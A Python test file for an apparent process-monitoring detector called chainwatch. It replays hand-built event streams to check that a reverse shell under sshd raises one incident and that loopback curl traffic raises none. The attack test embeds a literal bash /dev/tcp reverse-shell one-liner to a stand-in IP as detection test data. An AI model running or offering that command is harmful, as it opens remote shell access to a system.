"""`chainwatch replay FILE --alerts OUT`: recorded attack and benign event streams through the real CLI."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from agent.events import Connect, Event, Exec, Fork, SocketDup
from agent.recording import RecordingWriter

ROOT = Path(__file__).resolve().parents[2]
S = 10**9
T0 = 2_000 * S
REMOTE = "198.51.100.2"


class Script:
    """Builds a hand-written event stream for a few processes."""

    def __init__(self) -> None:
        self.events: list[Event] = []
        self.start: dict[int, int] = {}
        self.ppid: dict[int, int] = {}
        self.comm: dict[int, str] = {}

    def _hdr(self, pid: int, t: float) -> dict[str, Any]:
        return {"ktime": int(T0 + t * S), "pid": pid, "tid": pid, "ppid": self.ppid[pid],
                "start_time": self.start[pid], "uid": 1000, "cgroup_id": 9, "comm": self.comm[pid]}

    def spawn(self, pid: int, parent: int | None, filename: str, args: tuple[str, ...], t: float) -> None:
        self.start[pid], self.ppid[pid] = int(T0 + t * S), parent or 1
        if parent is not None:
            self.comm[pid] = self.comm[parent]
            self.events.append(Fork(**self._hdr(pid, t), parent_start_time=self.start[parent]))
        self.comm[pid] = filename.rsplit("/", 1)[-1][:15]
        self.events.append(Exec(**self._hdr(pid, t + 0.001), filename=filename, args=args,
                                stdio=("chr", "chr", "chr")))

    def connect(self, pid: int, daddr: str, dport: int, t: float) -> None:
        self.events.append(Connect(**self._hdr(pid, t), fd=3, family="ipv4", transport="tcp", daddr=daddr,
                                   dport=dport, result=0))

    def dup(self, pid: int, newfd: int, t: float, daddr: str, dport: int) -> None:
        self.events.append(SocketDup(**self._hdr(pid, t), oldfd=3, newfd=newfd, syscall="dup2", family="ipv4",
                                     transport="tcp", daddr=daddr, dport=dport))

    def write(self, path: Path) -> None:
        with open(path, "wb") as fh:
            writer = RecordingWriter(fh, {"hostname": "ci-runner-9", "host_id": "h9"})
            for event in self.events:
                writer.write(event)
            writer.flush()


def replay(recording: Path, out: Path) -> list[dict[str, Any]]:
    proc = subprocess.run([sys.executable, "-m", "agent", "replay", str(recording), "--alerts", str(out)],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert out.exists()
    return [json.loads(line) for line in out.read_text().splitlines() if line.strip()]


def test_replay_bash_dev_tcp_attack_is_one_incident(tmp_path: Path) -> None:
    """bash -i >& /dev/tcp/... under sshd (connect + 3 dups) replays to one incident naming the destination."""
    s = Script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
    s.connect(200, REMOTE, 4444, t=1.01)
    for fd in (0, 1, 2):
        s.dup(200, fd, t=1.02 + fd / 1000, daddr=REMOTE, dport=4444)
    # bash -c execs its only command in place: `bash -i` starts with the socket on its stdio
    s.events.append(Exec(**s._hdr(200, 1.03), filename="/usr/bin/bash", args=("bash", "-i"), stdio=("socket",) * 3,
                         stdio_socket_fd=0, stdio_family="ipv4", stdio_transport="tcp", stdio_daddr=REMOTE,
                         stdio_dport=4444))
    s.write(tmp_path / "attack.cwrec")
    alerts = replay(tmp_path / "attack.cwrec", tmp_path / "alerts.jsonl")
    assert 1 <= len(alerts) <= 2  # the shell's connect, then the new stdio_to_socket kind; the rest suppressed
    assert len({a["chainwatch"]["incident"]["id"] for a in alerts}) == 1
    for a in alerts:
        assert a["destination"] == {"ip": REMOTE, "port": 4444}
        assert a["process"]["executable"] == "/usr/bin/bash"
        assert a["process"]["parent"]["executable"] == "/usr/sbin/sshd"
        assert a["host"] == {"hostname": "ci-runner-9", "id": "h9"}
    assert "shell_network_connection" in alerts[0]["chainwatch"]["signals"]
    assert set(alerts[-1]["chainwatch"]["signals"]) == {"shell_network_connection", "stdio_to_socket"}


def test_replay_benign_curl_under_bash_no_alerts(tmp_path: Path) -> None:
    """curl under bash talking to loopback replays to an empty alerts file."""
    s = Script()
    s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
    s.spawn(200, 100, "/usr/bin/bash", ("bash", "build.sh"), t=1)
    s.spawn(300, 200, "/usr/bin/curl", ("curl", "-fsS", "http://127.0.0.1:8080/health"), t=2)
    s.connect(300, "127.0.0.1", 8080, t=2.1)
    s.connect(200, "127.0.0.1", 5432, t=3)  # a wait-for-it style /dev/tcp probe of a local service
    s.write(tmp_path / "benign.cwrec")
    assert replay(tmp_path / "benign.cwrec", tmp_path / "alerts.jsonl") == []
